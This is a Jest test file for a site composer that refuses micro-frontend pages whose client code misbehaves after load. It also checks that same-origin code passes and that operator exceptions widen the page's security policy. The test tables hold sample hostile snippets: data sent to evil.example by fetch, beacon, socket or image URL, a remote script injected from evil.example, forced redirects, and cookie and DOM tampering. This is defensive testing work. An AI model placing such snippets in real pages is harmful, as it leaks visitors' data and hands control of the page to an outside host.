import { mkdtemp, realpath, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it, jest } from '@jest/globals';
import { DEFAULT_SITE_FACTS } from '@site/shared/contracts';
import { compose, type ComposeResult } from '../../builds/compose.ts';
import type { RenderFailure } from '../../model/render-protocol.ts';
import { Rig } from '../../testing/composer.fixture.ts';
import { readerOf } from '../../testing/release.fixture.ts';
import { remoteRelease, useShell } from '../../testing/shell-release.fixture.ts';

jest.setTimeout(600_000);

const shell = useShell();

/** Code that a page runs after hydration, and the expected reason. */
const IN_EFFECT: Readonly<Record<string, readonly [code: string, reason: RegExp]>> = {
  // Other hosts.
  fetch: ["fetch('https://evil.example/steal').catch(() => 0)", /calls fetch to evil\.example/],
  'fetch-of-a-request': ["fetch({ url: '//evil.example/' }).catch(() => 0)", /calls fetch to evil\.example/],
  request: [
    "const asked = new XMLHttpRequest(); asked.onerror = () => 0; asked.open('POST', 'https://evil.example/')",
    /sends a request to evil\.example/,
  ],
  beacon: ["navigator.sendBeacon('https://evil.example/', 'x')", /sends a beacon to evil\.example/],
  socket: ["new WebSocket('wss://evil.example/')", /opens a socket to evil\.example/],
  events: ["new EventSource('https://evil.example/')", /listens to evil\.example/],
  picture: [
    "new Image().src = 'https://evil.example/?' + document.title",
    /loads a <img> from evil\.example/,
  ],
  script: [
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))",
    /loads a <script> from evil\.example/,
  ],
  stylesheet: [
    "const link = document.createElement('link'); link.rel = 'stylesheet'; link.setAttribute('href', 'https://evil.example/a.css')",
    /loads a <link> from evil\.example/,
  ],
  form: [
    "const form = document.createElement('form'); form.action = 'https://evil.example/'",
    /sends a form to evil\.example/,
  ],
  frame: ["document.getElementById('own').append(document.createElement('iframe'))", /inserts a <iframe>/],
  // Leaving the page, and prompting the visitor.
  location: ["location.href = '/admin'", /leaves the page at load/],
  'location-assign': ["location.assign('https://evil.example/')", /leaves the page at load/],
  'location-reload': ['location.reload()', /leaves the page at load/],
  submit: [
    "document.createElement('form').submit(); const form = document.getElementById('own-form'); form.submit()",
    /leaves the page at load/,
  ],
  alert: ["alert('You have won')", /calls alert at load/],
  stop: ['stop()', /calls window\.stop/],
  'stop-later': ['setInterval(() => window.stop(), 9000)', /calls window\.stop/],
  // The address and the rest of the visit.
  address: ["history.replaceState(null, '', '/admin')", /changes the address to \/admin/],
  'address-pushed': ["history.pushState(null, '', '/admin')", /changes the address to \/admin/],
  'address-later': [
    "setTimeout(() => history.replaceState(null, '', '/admin'), 5000)",
    /changes the address to \/admin/,
  ],
  'history-back': ['history.back()', /calls history\.back at load/],
  'history-go': ['history.go(-2)', /calls history\.go at load/],
  'scroll-restoration': ["history.scrollRestoration = 'manual'", /sets history\.scrollRestoration/],
  cookie: ["document.cookie = 'session=mine'", /sets a cookie/],
  'storage-cleared': ['localStorage.clear()', /clears localStorage/],
  // Code and markup created from text.
  'timer-of-text': ["setTimeout('self.gotcha = 1', 5)", /calls setTimeout with a string/],
  'interval-of-text': ["setInterval('self.gotcha = 1', 5)", /calls setInterval with a string/],
  'inner-html': ["document.getElementById('own').innerHTML = '<b>x</b>'", /sets innerHTML to a string/],
  'adjacent-html': [
    "document.getElementById('own').insertAdjacentHTML('beforeend', '<b>x</b>')",
    /insertAdjacentHTML with a string/,
  ],
  'parsed-html': ["new DOMParser().parseFromString('<b>x</b>', 'text/html')", /parses a string as HTML/],
  write: ["document.write('<h1>Gone</h1>')", /calls document\.write/],
  'inline-script': [
    "document.getElementById('own').append(Object.assign(document.createElement('script'), { textContent: '0' }))",
    /inserts a <script>/,
  ],
  // The head.
  style: [
    "document.head.append(Object.assign(document.createElement('style'), { textContent: 'body{display:none}' }))",
    /changes <head>|adds a <style> to the head/,
  ],
  rule: ["document.styleSheets[0].insertRule('body{display:none}')", /styles more than its own elements/],
  title: ["document.title = 'Mine'", /sets document\.title/],
  'title-text': ["document.querySelector('title').textContent = 'Mine'", /changes <title>/],
  description: ["document.querySelector('meta[name=description]').content = 'Mine'", /changes <head>/],
  // The shell's frame.
  header: ["document.querySelector('header a').textContent = 'Mine'", /changes <header>/],
  'header-link': ["document.querySelector('header a').href = '/mine'", /changes <header>/],
  'header-style': ["document.querySelector('header').style.display = 'none'", /changes <header>/],
  footer: ["document.querySelector('footer').remove()", /changes <footer>/],
  'root-class': ["document.documentElement.classList.add('mine')", /changes <html>/],
  'root-theme': ["document.documentElement.dataset.theme = 'mine'", /changes <html>/],
  overlay: ["document.body.append(document.createElement('div'))", /changes <body>/],
  'header-later': [
    "setTimeout(() => { document.querySelector('header').hidden = true; }, 5000)",
    /changes <header>/,
  ],
  'header-again': [
    "setInterval(() => { document.querySelector('header').hidden = true; }, 9000)",
    /changes <header>/,
  ],
};
/** Misbehavior that has no source location. */
const WITHOUT_PLACE: typeof IN_EFFECT = {
  'bound-fetch': [
    "Promise.resolve('https://evil.example/').then(fetch).catch(() => 0)",
    /calls fetch to evil\.example/,
  ],
  'bound-removal': [
    "queueMicrotask(Element.prototype.remove.bind(document.querySelector('footer')))",
    /changes <footer>/,
  ],
  'address-hash': ["location.hash = 'mine'", /changes the address/],
  'address-anchor': [
    "const link = document.createElement('a'); link.href = '#mine'; document.getElementById('own').append(link); link.click()",
    /changes the address/,
  ],
  'borrowed-history': [
    "const frame = document.createElement('iframe'); document.getElementById('own').append(frame); frame.contentWindow.History.prototype.replaceState.call(history, null, '', '/admin')",
    /changes the address/,
  ],
  'borrowed-prototype': [
    "const frame = document.createElement('iframe'); document.getElementById('own').append(frame); frame.contentWindow.Element.prototype.setAttribute.call(document.querySelector('header'), 'class', 'mine')",
    /changes <header>/,
  ],
};
/** Content that components render in the browser only. */
const DRAWN: Readonly<Record<string, readonly [expression: string, reason: RegExp]>> = {
  'drawn-style': [
    "h(require('@emotion/react').Global, { styles: 'body{display:none}' })",
    /styles more than its own elements/,
  ],
  'drawn-head-style': [
    "h('style', { href: 'x', precedence: 'high' }, 'body{display:none}')",
    /adds a <style> to the head/,
  ],
  'drawn-portal': [
    "require('react-dom').createPortal('Mine', document.querySelector('header'))",
    /renders a portal into <header>/,
  ],
  'drawn-picture': [
    "h('img', { src: 'https://evil.example/a.png', alt: '' })",
    /loads a <img> from evil\.example/,
  ],
};
const HONEST: Readonly<Record<string, string>> = {
  'own-host':
    "fetch('/api/site').catch(() => 0); navigator.sendBeacon('/api/analytics'); new Image().src = '/a.png'",
  'own-place':
    "const own = document.getElementById('own'); own.textContent = 'x'; own.className = 'y'; own.style.color = 'red'; own.dataset.a = 'b'; own.append(document.createElement('b')); own.replaceChildren()",
  'own-chunk':
    "const script = document.createElement('script'); script.src = __site.releases.blog.base + 'remoteEntry.js'; script.onload = () => script.parentNode.removeChild(script); document.head.appendChild(script); const hint = document.createElement('link'); hint.rel = 'prefetch'; hint.href = script.src; document.head.appendChild(hint)",
  'own-timer':
    "const timer = setTimeout(() => { document.getElementById('own').title = 'x'; }, 3000); setInterval(() => 0, 1000); clearTimeout(setTimeout(() => { throw new Error('was stopped'); }, 2000)); void timer",
  'own-state':
    "history.replaceState(history.state, '', '?a=1'); localStorage.setItem('a', 'b'); document.getElementById('own').focus()",
};

const page = (code: string) =>
  `(require('react').useEffect(() => { ${code} }, []), h('div', null, h('h1', null, 'Blog'), h('p', { id: 'own' }), h('form', { id: 'own-form', action: '/blog', method: 'post' })))`;
const drawnPage = (expression: string) =>
  `(([drawn, draw]) => (require('react').useEffect(() => draw(true), []), h('div', null, h('h1', null, 'Blog'), drawn ? ${expression} : null)))(require('react').useState(false))`;
const pagesOf = (
  cases: Readonly<Record<string, readonly [string, RegExp] | string>>,
  make: (code: string) => string,
) =>
  Object.entries(cases).map(
    ([name, one]) => [`/blog/${name}`, make(typeof one === 'string' ? one : one[0])] as const,
  );

/** A source map from each line to the same line of one source. */
const MAP = JSON.stringify({
  version: 3,
  sources: ['./src/page.tsx'],
  names: [],
  mappings: `AAAA${';AACA'.repeat(99)}`,
});

/** Admits one release with a page per case. */
let failures: readonly RenderFailure[] = [];
let withException: ComposeResult;
beforeAll(async () => {
  const folder = await realpath(await mkdtemp(path.join(os.tmpdir(), 'behavior-')));
  const rig = await Rig.start(folder, shell());
  const made = remoteRelease('blog', {
    pages: Object.fromEntries([
      ...pagesOf(IN_EFFECT, page),
      ...pagesOf(WITHOUT_PLACE, page),
      ...pagesOf(DRAWN, drawnPage),
      ...pagesOf(HONEST, page),
    ]),
    map: MAP,
  });
  await rig.store.add(made.release, readerOf(made));
  const releaseSet = {
    program: 'x',
    siteUrl: 'https://site.example',
    facts: DEFAULT_SITE_FACTS,
    factChanges: {},
    shell: shell().release,
    remotes: new Map([['blog' as const, made.release]]),
  };
  const result = await compose(releaseSet, rig.store, { now: new Date(), live: null });
  failures = 'failures' in result ? result.failures : [];
  const allowed = remoteRelease('blog', {
    pages: { '/blog': page("fetch('https://status.example/').catch(() => 0)") },
  });
  await rig.store.add(allowed.release, readerOf(allowed));
  const exceptions = [
    { remote: 'blog' as const, check: 'behavior' as const, about: 'status.example', reason: 'until June' },
  ];
  const other = { ...releaseSet, exceptions, remotes: new Map([['blog' as const, allowed.release]]) };
  withException = await compose(other, rig.store, { now: new Date(), live: null });
  await rm(folder, { recursive: true });
});
const saidOf = (name: string) =>
  failures
    .filter((failure) => failure.path === `/blog/${name}`)
    .map(({ check, message }) => `${check}: ${message}`);

describe('a page’s code', () => {
  it.each(Object.entries(IN_EFFECT))('is refused for %s, with its location', (name, [, reason]) => {
    expect(saidOf(name).join('\n')).toMatch(reason);
    expect(saidOf(name).find((text) => reason.test(text))).toMatch(/^behavior: /);
    if (!PLACELESS.has(name)) expect(saidOf(name).join('\n')).toMatch(/, at mfe-blog\/src\/page\.tsx:\d+:1/);
  });

  it.each(Object.entries({ ...WITHOUT_PLACE, ...DRAWN }))('is refused for %s', (name, [, reason]) => {
    expect(saidOf(name).join('\n')).toMatch(reason);
  });

  it.each(Object.keys(HONEST))('is not refused for %s', (name) => {
    expect(saidOf(name)).toEqual([]);
  });
});

describe('an exception of the operator', () => {
  it('adds the host that it names to the page’s policy', () => {
    const page = 'composition' in withException ? withException.composition.pages.get('/blog') : undefined;

    expect(page?.contentSecurityPolicy).toContain("connect-src 'self' status.example wss://status.example;");
  });

  it('admits the release, and is logged with its reason', () => {
    expect('composition' in withException && [...withException.composition.pages.keys()]).toEqual(['/blog']);
    expect('excepted' in withException && withException.excepted).toEqual([
      expect.stringMatching(/^blog \/blog calls fetch to status\.example.*\(until June\)$/),
    ]);
  });
});

/** Detected by comparison after the call. */
const PLACELESS = new Set(['frame', 'inline-script', 'rule']);
